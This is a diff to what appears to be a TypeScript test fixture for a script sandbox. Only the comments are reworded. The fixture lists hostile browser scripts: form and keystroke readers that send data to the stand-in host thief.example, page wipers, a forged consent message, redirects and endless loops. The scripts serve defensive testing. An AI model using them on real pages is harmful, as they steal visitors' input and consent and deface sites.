@@ -1,11 +1,11 @@
-/** Scripts that nobody wants on a page, each with what it tries. Each is declared, so each is let into its cage. */
+/** Nobody wants these scripts on a page. Each is declared in the settings, so each is let into its cage. */
 const steal = (what: string) =>
   `fetch('https://thief.example/?' + encodeURIComponent(${what}), { mode: 'no-cors' })`
 
 type HostileTag = readonly [what: string, script: string]
 
 const others: readonly HostileTag[] = [
-  // what moves the page
+  // these move the page
   [
     'puts a banner above the page',
     "const b = parent.document.createElement('div'); b.style.height = '400px'; parent.document.body.prepend(b)",
@@ -26,7 +26,7 @@ const others: readonly HostileTag[] = [
   ['shows itself in the whole window', 'document.documentElement.requestFullscreen()'],
   ['scrolls the page', 'setInterval(() => parent.scrollTo(0, Math.random() * 999), 20)'],
   ['writes over the page', "parent.document.write('<h1>Hello</h1>')"],
-  // what destroys
+  // these destroy
   ['empties the page', "parent.document.body.innerHTML = ''"],
   ['removes every form', "parent.document.querySelectorAll('form').forEach((form) => form.remove())"],
   ['empties its own page', "document.documentElement.remove(); document.write('')"],
@@ -45,7 +45,7 @@ const others: readonly HostileTag[] = [
     'forges a choice of the visitor',
     "parent.postMessage({ type: 'consent', consent: 'all' }, '*'); parent.dispatchEvent(new Event('forecourt:consent'))",
   ],
-  // what steals
+  // these steal
   ['reads the form', steal('parent.document.forms[0].elements.email.value')],
   ['listens for keys', `parent.addEventListener('keydown', (event) => ${steal('event.key')})`],
   ['listens for every submit', `top.document.addEventListener('submit', () => ${steal("'submit'")}, true)`],
@@ -65,7 +65,7 @@ const others: readonly HostileTag[] = [
     'frames somebody else',
     "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://thief.example/' }))",
   ],
-  // what leads away
+  // these lead away
   ['leads the visitor away', "top.location = 'https://thief.example/'"],
   [
     'posts the visitor away',
@@ -78,7 +78,7 @@ const others: readonly HostileTag[] = [
   ],
 ]
 
-/** What holds the processor, and with it all cages: they are the last to start. */
+/** These occupy the processor, and with it every cage, so they start last. */
 export const hogs: readonly HostileTag[] = [
   ['never ends', 'while (true) {}'],
   [
